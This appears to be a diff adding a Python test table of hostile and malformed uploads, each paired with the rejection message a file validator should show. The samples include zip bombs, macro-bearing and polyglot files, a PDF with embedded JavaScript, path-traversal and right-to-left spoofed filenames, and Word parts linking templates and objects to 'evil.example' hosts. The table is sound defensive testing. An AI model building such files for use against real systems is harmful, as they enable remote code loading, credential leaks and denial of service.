@@ -1,0 +1,142 @@
+"""Hostile and odd uploads, each with the sentence it gets: the one table to read about them."""
+
+import zipfile
+from collections.abc import Callable
+from typing import NamedTuple
+
+from fundflow.files.office import BOMB, DAMAGED, INSIDE, LINKED, LOCKED, MACROS
+from tests.files import samples as s
+from tests.files.samples import MEGABYTE, csv, docx, pdf, relations, xlsx, zipped
+
+KINDS = "Choose a PDF, Word (.docx), Excel (.xlsx) or CSV file"
+HIDDEN = "The PDF has another file hidden in it"
+EXTERNAL = "word/_rels/settings.xml.rels"
+
+
+class Bad(NamedTuple):
+    """A file that is refused: what it is, its name, its content, a part of the sentence."""
+
+    what: str
+    name: str
+    data: Callable[[], bytes]
+    says: str
+
+
+def _(what: str, name: str, data: bytes | Callable[[], bytes], says: str) -> Bad:
+    return Bad(what, name, data if callable(data) else lambda: data, says)
+
+
+TABLE = (
+    # what it is not
+    _("nothing at all", "plan.pdf", b"", "The file is empty"),
+    _("10 MB and a byte", "plan.pdf", lambda: pdf(b" " * (10 * MEGABYTE - len(pdf()) + 1)),
+      "larger than 10 MB"),
+    _("a picture called a PDF", "plan.pdf", s.PNG, "ends in “.pdf”, but it is not a PDF"),
+    _("a program called a PDF", "plan.pdf", s.EXE, "ends in “.pdf”, but it is not a PDF"),
+    _("a web page called a PDF", "plan.pdf", s.HTML, "ends in “.pdf”, but it is not a PDF"),
+    _("a PDF called a Word document", "plan.docx", pdf, "ends in “.docx”, but it is a PDF"),
+    _("an Excel workbook called a Word document", "plan.docx", xlsx, "but it is an Excel workbook"),
+    _("a Word document called an Excel workbook", "plan.xlsx", docx, "but it is a Word document"),
+    _("a CSV file called an Excel workbook", "plan.xlsx", csv, "but it is a CSV file"),
+    _("a plain zip called a Word document", "plan.docx", lambda: zipped({"a": b"a"}), "not a Word document"),
+    _("a drawing (SVG)", "logo.svg", s.SVG, "ends in “.svg” can’t be attached. " + KINDS),
+    _("a web page", "page.html", s.HTML, "ends in “.html” can’t be attached"),
+    _("a zip", "all.zip", lambda: zipped({"a.pdf": pdf()}), "ends in “.zip” can’t be attached"),
+    # CSV
+    _("a web page called a CSV", "data.csv", s.HTML, "is not a CSV file"),
+    _("a web page called a CSV, in UTF-16", "data.csv", s.HTML.decode().encode("utf-16"), "not a CSV file"),
+    _("a drawing called a CSV", "data.csv", s.SVG, "is not a CSV file"),
+    _("a script after a few good rows", "data.csv", csv("a,b\n1,2\n3,<script>x</script>\n"), "is not a CSV"),
+    _("XML called a CSV", "data.csv", b"<?xml version='1.0'?>\n<a>1,2</a>\n<b>3,4</b>", "is not a CSV file"),
+    _("a CSV with a NUL", "data.csv", csv("a,b\n1,\0\n"), "is not a CSV file"),
+    _("bytes that are no text", "data.csv", bytes(range(128, 256)) * 4, "is not a CSV file"),
+    _("prose called a CSV", "data.csv", b"We need the money.\nThank you.\n", "is not a CSV file"),
+    _("a single row", "data.csv", b"school,pupils\n", "is not a CSV file"),
+    _("a CSV with an endless cell", "data.csv", csv(f"a,b\n1,{'x' * 200_000}\n"), "is not a CSV"),
+    # PDF
+    _("half a PDF", "plan.pdf", pdf()[:40], "damaged or incomplete"),
+    _("a PDF that is also a zip", "plan.pdf", lambda: pdf() + docx(), HIDDEN),
+    _("a PDF with a zip inside", "plan.pdf", lambda: pdf(zipped({"a.exe": s.EXE})), HIDDEN),
+    _("a PDF that is also a web page", "plan.pdf", b"%PDF-1.7 " + s.HTML + pdf(), HIDDEN),
+    _("a PDF with a long tail", "plan.pdf", pdf(after=b"x" * 2000), HIDDEN),
+    _("a PDF with a script", "plan.pdf", pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "holds a program"),
+    _("a PDF with a file in it", "plan.pdf", pdf(b"<</Type/EmbeddedFile>>"), "or another file"),
+    # Word and Excel
+    _("a Word document with macros", "plan.docm", s.docm, "ends in “.docm” can’t be attached"),
+    _("macros, renamed", "plan.docx", s.docm, MACROS),
+    _("macros in a plain document", "plan.docx", lambda: docx({"word/vbaProject.bin": b"x"}), MACROS),
+    _("a macro sheet of Excel 4", "plan.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": b"<x/>"}), MACROS),
+    _("an ActiveX control", "plan.docx", lambda: docx({"word/activeX/activeX1.xml": b"<x/>"}), MACROS),
+    _("a document with a password", "plan.docx", s.OLE, "protected by a password"),
+    _("an old Word document", "plan.doc", s.OLE, "ends in “.doc” can’t be attached"),
+    _("an encrypted zip", "plan.docx", lambda: s.locked(docx()), LOCKED),
+    _("half a document", "plan.docx", lambda: docx()[:200], DAMAGED),
+    _("a document with a spoilt part", "plan.docx", lambda: docx(method=zipfile.ZIP_STORED).replace(
+        b"<w/>", b"<W/>"), DAMAGED),
+    _("an odd compression", "plan.docx", lambda: docx(method=zipfile.ZIP_LZMA), DAMAGED),
+    _("a zip bomb", "plan.docx", lambda: s.bomb(40 * MEGABYTE), BOMB),
+    _("a larger zip bomb", "plan.docx", lambda: s.bomb(200 * MEGABYTE), BOMB),
+    _("a zip bomb that lies", "plan.docx", lambda: s.lying(s.bomb(40 * MEGABYTE)), DAMAGED),
+    _("a bomb of many parts", "plan.docx", lambda: docx({f"w/{n}.xml": b"" for n in range(4000)}), BOMB),
+    _("a bomb in a bomb", "plan.docx", lambda: docx({"word/embeddings/a.xlsx": xlsx(
+        {"xl/b.bin": b"\0" * 40 * MEGABYTE})}), BOMB),
+    _("a zip in a document", "plan.docx", lambda: docx({"word/media/a.zip": zipped({"a": b"a"})}), INSIDE),
+    _("nested three deep", "plan.docx", lambda: docx({"word/embeddings/a.xlsx": xlsx(
+        {"xl/embeddings/b.docx": docx()})}), INSIDE),
+    _("macros in a workbook in a document", "plan.docx", lambda: docx({"word/embeddings/a.xlsx": xlsx(
+        {"xl/vbaProject.bin": b"x"})}), MACROS),
+    _("a program in a document", "plan.docx", lambda: docx({"word/media/a.bin": s.EXE}), INSIDE),
+    _("an object in a document", "plan.docx", lambda: docx({"word/oleObject1.bin": s.OLE}), INSIDE),
+    _("a document with a tail", "plan.docx", lambda: docx() + b"<script>alert(1)</script>", INSIDE),
+    _("a document that is also a PDF", "plan.docx", lambda: _polyglot(), INSIDE),
+    _("a part that climbs out", "plan.docx", lambda: docx({"../../etc/cron.d/x": b"x"}), DAMAGED),
+    _("a part with a drive", "plan.docx", lambda: docx({"C:/x.xml": b"<x/>"}), DAMAGED),
+    _("one name twice", "plan.docx", lambda: s.doubled("word/a.xml"), DAMAGED),
+    _("XML with entities", "plan.docx", lambda: docx({"a.rels": b"<!DOCTYPE a [<!ENTITY b ''>]><a/>"}),
+      DAMAGED),
+    _("a template from elsewhere", "plan.docx", lambda: docx({EXTERNAL: relations(
+        "attachedTemplate", "https://evil.example/t.dotm")}), LINKED),
+    _("a template on a share", "plan.docx", lambda: docx({EXTERNAL: relations(
+        "attachedTemplate", "file:///\\\\evil\\t.dotm")}), LINKED),
+    _("an object from elsewhere", "plan.docx", lambda: docx({EXTERNAL: relations(
+        "oleObject", "mhtml:https://evil.example/x!x-usc:https://evil.example/x")}), LINKED),
+    _("a picture that tells who reads", "plan.docx", lambda: docx({EXTERNAL: relations(
+        "image", "\\\\evil\\x.png")}), LINKED),
+    # names
+    _("two endings", "plan.pdf.exe", pdf, "ends in “.exe” can’t be attached"),
+    _("two endings, the good one last", "plan.exe.pdf", pdf, "two endings, “.exe” and “.pdf”"),
+    _("right-to-left", "plan\u202efdp.exe", pdf, "ends in “.exe” can’t be attached"),
+    _("right-to-left, hiding a program", "plan\u202efdp.exe.pdf", pdf, "two endings"),
+    _("a NUL before the good ending", "plan.exe\0.pdf", pdf, "two endings"),
+    _("no ending", "plan", pdf, "has no ending"),
+    _("an ending alone", ".pdf", pdf, "has no ending"),
+    _("dots alone", "...", pdf, "has no ending"),
+    _("nothing but marks", "\u202e\u200b.pdf", pdf, "has no ending"),
+)  # fmt: skip
+
+
+# Odd, and harmless: name, what it is kept as.
+ODD_NAMES = (
+    ("../../etc/passwd.pdf", "passwd.pdf"),
+    ("C:\\Users\\sam\\Plan.PDF", "Plan.pdf"),
+    ("/plan.pdf", "plan.pdf"),
+    ("plan.pdf/", "plan.pdf"),
+    ("plan\u202efdp.pdf", "planfdp.pdf"),
+    ("pl\0an\r\nSet-Cookie: x.pdf", "planSet-Cookie_ x.pdf"),
+    ("\u200bplan\ufeff .pdf", "plan.pdf"),
+    ("CON.pdf", "_CON.pdf"),
+    ("nul.1.pdf", "_nul.1.pdf"),
+    ("..htaccess.pdf", "htaccess.pdf"),
+    ("plan.pdf. . ", "plan.pdf"),
+    ('<a href="x">&b|c?*.pdf', "_a href=_x__&b_c__.pdf"),
+    ("Plan 3.1 (final).pdf", "Plan 3.1 (final).pdf"),
+    ("План école 計画.pdf", "План école 計画.pdf"),
+    ("e\u0301cole.pdf", "école.pdf"),
+    ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
+)
+
+
+def _polyglot() -> bytes:
+    """A Word document whose first part, stored as it is, begins with a PDF's first line."""
+    return zipped({"%PDF-1.7": b"", "[Content_Types].xml": s.types(s.WORD, "word/document.xml"),
+                   "word/document.xml": b"<w/>"})  # fmt: skip
